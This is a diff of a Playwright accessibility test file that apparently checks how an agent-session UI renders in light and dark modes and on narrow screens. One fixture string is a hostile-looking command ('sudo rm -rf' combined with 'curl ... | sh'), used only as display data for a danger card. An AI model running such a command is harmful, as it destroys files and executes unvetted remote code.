@@ -6,10 +6,10 @@ const KINDS = { command: "run a command", file: "write a file", question: "ask a
 const MORE = { danger: "run: cd x && sudo rm -rf ../y | tee log; curl -s https://example.com/x | sh", broken: 'run: echo "never', edit: "edit a file", fetch: "fetch a page", tool: "use an mcp tool", subagents: "two subagents" };
 const LONG = `run: printf '%s\\n' ${"a-very-long-word-without-any-break".repeat(12)} > ${"deep/".repeat(40)}file.txt`;
 
-/** All violations, as short lines. */
-async function complaints(page) {
+/** All violations, as short lines. @param {string[]} but rules that do not hold here */
+async function complaints(page, but = []) {
   await settled(page);
-  const { violations } = await new AxeBuilder({ page }).setLegacyMode(true).analyze();
+  const { violations } = await new AxeBuilder({ page }).setLegacyMode(true).disableRules(but).analyze();
   return violations
     .flatMap((violation) => violation.nodes.map((node) => `${violation.id}: ${node.html.slice(0, 160)} ${node.failureSummary}`));
 }
@@ -57,6 +57,7 @@ for (const colorScheme of /** @type {const} */ (["light", "dark"])) {
     });
 
     test(`${colorScheme}: no card of a tool has a fault, nor the table of several, the history and the plain inbox`, async ({ page, server }) => {
+      test.setTimeout(240_000);
       for (const prompt of Object.values(MORE)) {
         const id = await server.startSession(prompt);
         await open(page, server.page(id));
@@ -159,7 +160,8 @@ for (const width of [390, 360]) {
       await button(page, "Menu").tap();
       await expect(sidebar(page)).toBeInViewport();
       await fits(page);
-      expect(await complaints(page)).toEqual([]);
+      // the page behind it can be neither seen nor reached meanwhile
+      expect(await complaints(page, ["landmark-one-main", "page-has-heading-one"])).toEqual([]);
       await page.keyboard.press("Escape");
       await expect(sidebar(page)).toBeHidden();
       await button(page, "Menu").tap();
